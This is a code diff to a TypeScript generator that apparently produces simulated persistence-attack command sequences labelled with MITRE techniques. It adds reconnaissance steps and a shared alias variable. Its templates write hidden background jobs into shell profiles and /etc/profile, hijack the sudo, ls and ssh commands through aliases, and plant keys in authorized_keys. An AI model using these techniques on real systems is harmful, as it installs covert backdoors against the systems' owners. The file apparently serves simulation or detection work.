@@ -1,6 +1,6 @@
 import type { Attack } from '../scenario.ts';
 import { callOut, stayer } from './beacon.ts';
-import { link, maybe, quote, root, workFile, write } from './ways.ts';
+import { link, look, maybe, quote, root, workFile, write } from './ways.ts';
 
 /** Files that a shell reads at its start call out. */
 const byProfile: Attack = {
@@ -8,7 +8,7 @@ const byProfile: Attack = {
   family: 'persistence-by-profile',
   techniques: ['T1546.004'],
   as: 'either',
-  needs: ['curl', 'wget', 'nc', 'python3'],
+  needs: ['curl', 'wget', 'nc', 'python3', 'sudo'],
   lines: (draw, place) => {
     const { extension, body } = stayer(draw, place);
     const path = `${place.home}/${draw.pick(['.cache', '.config', '.local/lib'])}/${draw.word()}${extension}`;
@@ -21,8 +21,10 @@ const byProfile: Attack = {
       '~/.bash_aliases',
     ]);
     const all = draw.pick([`/etc/profile.d/${draw.word()}.sh`, '/etc/bash.bashrc', '/etc/profile']);
+    const program = draw.pick(['sudo', 'ls', 'ssh']);
     const added = `(${job} > /dev/null 2>&1 &)`;
     return [
+      ...look(draw, draw.int(2, 3)),
       ...maybe(draw, 0.4, 'ls -la ~', 'tail -5 ~/.bashrc'),
       ...(job.includes(path)
         ? [`mkdir -p ${path.slice(0, path.lastIndexOf('/'))}`, write(draw, path, body), `chmod +x ${path}`]
@@ -32,7 +34,7 @@ const byProfile: Attack = {
         `printf '\\n%s\\n' ${quote(added)} >> ${mine}`,
         `echo ${quote(added)} | ${root(place, `tee -a ${all}`)} > /dev/null`,
         `cat >> ${mine} << 'EOF'\n${added}\nEOF`,
-        `echo ${quote(`alias ${draw.pick(['sudo', 'ls', 'ssh'])}=${quote(`${job} >/dev/null 2>&1 & \\${draw.pick(['sudo', 'ls', 'ssh'])}`)}`)} >> ${mine}`,
+        `echo ${quote(`alias ${program}=${quote(`${job} >/dev/null 2>&1 & \\${program}`)}`)} >> ${mine}`,
       ]),
       ...maybe(
         draw,
@@ -55,7 +57,7 @@ const byStartup: Attack = {
   family: 'persistence-by-startup-file',
   techniques: ['T1037.004', 'T1546.017'],
   as: 'either',
-  needs: ['curl', 'wget', 'nc', 'python3'],
+  needs: ['curl', 'wget', 'nc', 'python3', 'sudo'],
   lines: (draw, place) => {
     const name = draw.word();
     const { body } = stayer(draw, place);
@@ -106,7 +108,7 @@ const byKey: Attack = {
   family: 'persistence-by-key',
   techniques: ['T1098.004'],
   as: 'either',
-  needs: ['ssh-keygen', 'curl'],
+  needs: ['ssh-keygen', 'curl', 'sudo'],
   lines: (draw, place) => {
     const key = `/tmp/${draw.word()}`;
     const whom = draw.pick(['~', '/root', `/home/${draw.pick(place.users)}`]);
@@ -123,6 +125,7 @@ const byKey: Attack = {
       [write(draw, key, text), as(`cp ${key} ${whom}/.ssh/authorized_keys`), `rm ${key}`],
     ]);
     return [
+      ...look(draw, draw.int(1, 2)),
       ...maybe(draw, 0.5, as(`ls -la ${whom}/.ssh`)),
       as(`mkdir -p ${whom}/.ssh`),
       ...add,
